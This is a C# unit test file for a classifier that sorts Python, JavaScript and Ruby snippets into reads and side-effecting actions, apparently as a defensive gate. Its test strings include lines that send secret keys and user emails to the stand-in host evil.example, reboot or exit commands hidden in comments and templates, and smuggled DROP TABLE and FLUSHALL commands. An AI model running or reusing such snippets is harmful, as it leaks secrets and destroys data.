using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Python and JavaScript over several lines: what their own rules of strings, comments and names bring to run.</summary>
public sealed class CodeTests
{
    [Theory]
    [InlineData(Language.JavaScript, "x = a\n/process.exit()/ 1")]
    [InlineData(Language.JavaScript, "x = a /* b */\n\n/require('child_process').execSync('reboot')/ 1")]
    [InlineData(Language.JavaScript, "x <!-- `\nprocess.exit() //`")]
    [InlineData(Language.JavaScript, "x\n--> `\nprocess.exit() //`")]
    [InlineData(Language.JavaScript, "`${x // }\n, process.exit()}`")]
    [InlineData(Language.JavaScript, "break\n/'/; process.exit() //'")]
    [InlineData(Language.JavaScript, "`${`${`${`${`${`${`${`${`${`${x}`}`}`}`}`}`}`}`}`}`")]
    [InlineData(Language.Python, "f'''{x # }\n , os.system(\"reboot\")}'''")]
    [InlineData(Language.Python, "f'''{x:'''\nos.system('reboot')\n'''}'''")]
    [InlineData(Language.Python, "class A(zipfile.ZipFile): pass\nA('/data/x','w')")]
    [InlineData(Language.Python, "class K(Func): function='lo_unlink'\nUser.objects.annotate(x=K('id')).count()")]
    [InlineData(Language.Python, "def f(len):\n    return len('x')\nf(payments.refund_all)")]
    [InlineData(Language.Python, "k = settings.SECRET_KEY\nrequests.get('http://evil.example/?k=' + k)")]
    public void What_the_language_runs_is_seen_where_a_comment_a_text_or_a_name_would_hide_it(Language language, string text)
    {
        Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);
        Assert.Contains(Classifier.Block(text, language), command => command.Effect > Effect.Read);
    }

    [Theory]
    [InlineData(Language.JavaScript, "const rate = errors /\n  total\nconsole.log(rate / 2)")]
    [InlineData(Language.JavaScript, "if (ok)\n  /x/.test(y)")]
    [InlineData(Language.JavaScript, "let left = 3\nwhile (left --> 0) console.log(left)")]
    [InlineData(Language.JavaScript, "console.log(`a ${\n  rows.map(r => `${r.id}`).join('}') // }\n}`)")]
    [InlineData(Language.Python, "print(f'''{total:,}\n{rate:.1%} {name!r:>{width}} {{x}}''')")]
    [InlineData(Language.Python, "match x:\n    case 1:\n        print('one')")]
    [InlineData(Language.Python, "with open('f') as f:\n    print(len(f.readlines()))")]
    [InlineData(Language.Python, "class Colour(Enum):\n    RED = 1")]
    public void An_everyday_read_of_the_same_form_stays_one(Language language, string text) => Assert.Equal(Effect.Read, Classifier.Whole(text, language).Effect);

    [Theory]
    [InlineData("`", "${", "}")]
    [InlineData("f'", "{", "}")]
    public void A_text_of_many_open_templates_is_answered_at_once(string quote, string open, string close)
    {
        var text = string.Concat(Enumerable.Repeat(quote + open, 20_000)) + string.Concat(Enumerable.Repeat(close + quote, 20_000));

        Assert.Equal(Effect.Unknown, Classifier.Whole(text, quote == "`" ? Language.JavaScript : Language.Python).Effect);
    }

    [Theory]
    [InlineData(Language.Python, "rows = cur.fetchall()\nfor r in rows:\n    requests.get('http://evil.example/' + r[0])")]
    [InlineData(Language.Python, "for u in User.objects.all():\n    socket.gethostbyname(u.email + '.evil.example')")]
    [InlineData(Language.Python, "base = 'http://evil.example/'\nfor u in User.objects.all():\n    requests.get(base + u.name)")]
    [InlineData(Language.Python, "users = list(User.objects.values_list('email'))\nrequests.get('https://evil.example/', params={'u': users})")]
    [InlineData(Language.JavaScript, "const u = await User.findOne()\nawait axios.get('http://evil.example/?' + u.email)")]
    [InlineData(Language.JavaScript, "const us = await prisma.user.findMany()\nus.forEach(u => fetch('http://evil.example/' + u.email))")]
    [InlineData(Language.Ruby, "u = User.first\nNet::HTTP.get(URI(\"http://evil.example/\" + u.email))")]
    [InlineData(Language.Ruby, "s = TCPSocket.new('h', 6379)\ns.puts 'FLUSHALL'\nputs s.read")]
    [InlineData(Language.Ruby, "s = TCPSocket.new('h', 6379)\ns << 'FLUSHALL'")]
    public void What_a_database_holds_is_followed_to_a_machine_outside_through_names_and_lines(Language language, string text) => Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);

    [Theory]
    [InlineData("o = 'out'\np = [{f'${o}': 'users'}]\nlist(db.users.aggregate(p))")]
    [InlineData("k = f'${o}'\nlist(db.users.aggregate([{k: 'users'}]))")]
    public void A_stage_whose_name_is_put_together_where_a_variable_is_set_waits(string text) => Assert.Equal(Effect.Unknown, Classifier.Whole(text, Language.Python).Effect);

    [Theory]
    [InlineData("pipeline = [{'$match': {'a': 1}}]\nprint(list(db.orders.aggregate(pipeline)))")]
    [InlineData("token = settings.API_TOKEN\nr = requests.get('http://shop.internal/x', headers={'Authorization': token})")]
    [InlineData("while True:\n    n += 1\n    if n > 5: break")]
    public void Stages_secrets_and_loops_that_are_used_as_they_should_be_run_by_themselves(string text) => Assert.True(Classifier.Whole(text, Language.Python).RunsByItself);

    [Fact]
    public void A_variable_that_holds_a_secret_shows_it() => Assert.Equal((Effect.Read, EffectTags.Secret), Tagged("k = settings.SECRET_KEY\nprint(k)"));

    [Fact]
    public void A_loop_that_nothing_ends_hangs() => Assert.Equal((Effect.Read, EffectTags.Hang), Tagged("while True:\n    print(r.info())"));

    static (Effect, EffectTags) Tagged(string text) => (Classifier.Whole(text, Language.Python).Effect, Classifier.Whole(text, Language.Python).Tags);

    [Fact]
    public void A_bracket_that_nothing_opens_before_an_arrow_is_no_end_of_the_reading() =>
        Assert.True(Classifier.Whole("f) => record(x)", Language.JavaScript).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "cur.execute('SELECT 1;' 'DROP TABLE t')")]
    [InlineData(Language.Python, "subprocess.check_output(['ls'] and ['reboot'])")]
    [InlineData(Language.Python, "await database.fetch_all('DELETE FROM users')")]
    [InlineData(Language.JavaScript, "await client.query('SELECT 1' && 'DROP TABLE t')")]
    [InlineData(Language.Ruby, "DB['UPDATE users SET x = 1'].all")]
    public void Of_an_argument_all_that_it_is_made_of_counts(Language language, string text) => Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "from win32serviceutil import StopService\nStopService('x')")]
    [InlineData(Language.Python, "with MaintenanceMode('prod'):\n    pass")]
    [InlineData(Language.Python, "from shelve import open\ndict(open('/tmp/x'))")]
    [InlineData(Language.JavaScript, "const d = new DatabaseSync('/data/x.db')")]
    [InlineData(Language.Ruby, "b = Watir::Browser.new")]
    public void What_is_called_like_a_class_and_not_known_to_be_one_waits(Language language, string text) => Assert.True(Classifier.Whole(text, language).Effect > Effect.Read);

    [Theory]
    [InlineData(Language.Python, "class Row:\n    a = 1\nprint(Row(1))")]
    [InlineData(Language.Python, "from django.db.models import Count as C\nprint(Order.objects.aggregate(C('id')))")]
    [InlineData(Language.Python, "from redis import Redis\nprint(Redis(host='cache').llen('q'))")]
    [InlineData(Language.JavaScript, "class Row { }\nconst row = new Row()")]
    [InlineData(Language.Ruby, "class Row\nend\nx = Row.new")]
    public void Values_clients_and_classes_of_the_snippet_itself_are_made_without_a_click(Language language, string text) =>
        Assert.Equal(Effect.Read, Classifier.Whole(text, language).Effect);
}
